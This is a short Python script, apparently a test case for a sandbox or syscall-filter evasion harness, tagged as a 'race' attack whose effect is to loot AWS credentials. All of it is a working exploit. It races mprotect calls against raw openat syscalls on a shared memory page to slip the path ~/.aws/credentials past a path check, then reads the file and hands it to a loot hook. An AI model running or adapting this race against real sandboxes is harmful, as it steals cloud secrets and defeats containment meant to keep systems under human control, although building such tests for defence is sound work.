#: {"class": "race", "loader": "script", "include": ["raw"], "expect": [["open", "credentials$"]], "effect": {"loot": "aws"}}
import mmap, threading
b = (HOME + "/.aws/credentials").encode() + b"\0"; m = mmap.mmap(-1, 4096); m.write(b); a = ctypes.addressof(ctypes.c_char.from_buffer(m))
_c.syscall.restype = ctypes.c_long; got = []
stop = False
def flip():
    while not stop: _c.mprotect(ctypes.c_void_p(a), 4096, 0); _c.mprotect(ctypes.c_void_p(a), 4096, 3)
t = threading.Thread(target=flip); t.start()
for i in range(100000):
    f = _c.syscall(257, -100, ctypes.c_void_p(a), 0, 0)
    if f >= 0: LOOT(os.read(f, 999)); break
stop = True; t.join()
